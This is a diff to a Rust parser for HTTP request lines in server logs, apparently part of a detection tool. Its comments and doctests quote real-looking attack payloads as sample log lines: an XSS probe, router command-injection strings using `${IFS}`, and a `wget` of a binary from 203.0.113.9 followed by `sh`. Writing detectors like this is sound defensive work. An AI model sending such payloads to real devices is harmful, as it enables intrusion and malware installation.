@@ -14,10 +14,11 @@ pub struct RequestLine<'a> {
     pub target: Option<&'a str>,
     /// The protocol as logged (`HTTP/1.1`, or a made-up `HTTP/1.2`).
     pub protocol: Option<&'a str>,
-    /// When the line is no request but the client did send something: the line as logged
-    /// (TLS or other binary bytes as the server escaped them, `\x16\x03\x01`; a protocol
-    /// banner, `SSH-2.0-Go`; a line cut short, `GET /`), at most [`UNPARSED_MAX_BYTES`] of it.
-    /// `None` for a request, and for an empty line, `-` or Envoy's `- - -` (nothing received).
+    /// When the line is no complete request but the client did send something: the line as
+    /// logged (TLS or other binary bytes as the server escaped them, `\x16\x03\x01`; a protocol
+    /// banner, `SSH-2.0-Go`; a line without its protocol, `GET /`, whose method and target are
+    /// read as well), at most [`UNPARSED_MAX_BYTES`] of it. `None` for a complete request, and
+    /// for an empty line, `-` or Envoy's `- - -` (nothing received).
     pub unparsed: Option<&'a str>,
 }
 
@@ -31,9 +32,12 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// version (`HTTP/1.2`, a bare `HTTP`) keeps them as logged; rules decide what is odd. A target
 /// with raw spaces (Apache and NGINX log the line as received; scanners send unencoded payloads
 /// such as `/x"><img src=N onerror=alert(1)>`) is everything between the method and the
-/// protocol, so the rules still see the payload. Without a protocol, a target with raw spaces is
-/// what follows the method (the router exploits `/shell?cd+/tmp;wget+ 203.0.113.9/arm;sh+arm`,
-/// answered 400); a bare `GET /` stays no request (a line cut short).
+/// protocol, so the rules still see the payload. A line without a protocol whose target is a
+/// path (HTTP/0.9's `GET /page`, a line cut short, a router exploit sent by hand,
+/// `GET /bin/zhttpd/${IFS}cd${IFS}/tmp;...` or `/shell?cd+/tmp;wget+ 203.0.113.9/arm` with its
+/// raw spaces) gives the method and everything after it as the target, with no protocol, and
+/// keeps the line in [`RequestLine::unparsed`] too: the rules read its path and still see that
+/// it was no complete request.
 ///
 /// ```
 /// # use gatewatch_ingest::decode::request::request_line;
@@ -43,7 +47,8 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// assert_eq!(parts("GET /a b=c HTTP/1.1"), (Some("GET"), Some("/a b=c"), Some("HTTP/1.1")));
 /// assert_eq!(parts("\\x16\\x03\\x01"), (None, None, None));
 /// assert_eq!(parts("- - -"), (None, None, None));
-/// assert_eq!(parts("GET /"), (None, None, None));
+/// assert_eq!(parts("GET /"), (Some("GET"), Some("/"), None));
+/// assert_eq!(parts("GET /bin/zhttpd/${IFS}cd${IFS}/tmp;"), (Some("GET"), Some("/bin/zhttpd/${IFS}cd${IFS}/tmp;"), None));
 /// assert_eq!(parts("GET /a b"), (Some("GET"), Some("/a b"), None));
 /// assert_eq!(parts("GET /shell?cd+/tmp;wget+ 203.0.113.9/arm"), (Some("GET"), Some("/shell?cd+/tmp;wget+ 203.0.113.9/arm"), None));
 /// assert_eq!(parts("GET a b"), (None, None, None));
@@ -54,6 +59,8 @@ pub const UNPARSED_MAX_BYTES: usize = 128;
 /// assert_eq!(unparsed("\\x16\\x03\\x01\\x00"), Some("\\x16\\x03\\x01\\x00"));
 /// assert_eq!(unparsed("SSH-2.0-Go"), Some("SSH-2.0-Go"));
 /// assert_eq!(unparsed("GET / HTTP/1.1"), None);
+/// assert_eq!(unparsed("GET /"), Some("GET /"));
+/// assert_eq!(unparsed("GET /a b"), Some("GET /a b"));
 /// assert_eq!(unparsed("-"), None);
 /// assert_eq!(unparsed("- - -"), None);
 /// assert_eq!(unparsed(""), None);
@@ -71,14 +78,15 @@ pub fn request_line(line: &str) -> RequestLine<'_> {
     // A bare `HTTP` (no version) closes a hand-made line as a protocol would: kept as logged,
     // for the rules to find the version that does not exist.
     if !is_protocol(p) && p != "HTTP" {
-        // No protocol: the raw spaces are the target's (a payload sent unencoded).
+        // No protocol: everything after the method is the target (raw spaces are a payload
+        // sent unencoded), and the line stays on record as incomplete.
         let after_method = line.get(m.len() + 1..).unwrap_or("");
-        if is_method(m) && after_method.starts_with('/') && after_method.contains(' ') {
+        if is_method(m) && after_method.starts_with('/') {
             return RequestLine {
                 method: Some(m),
                 target: Some(after_method),
                 protocol: None,
-                unparsed: None,
+                unparsed: unparsed(line),
             };
         }
         return no_request();
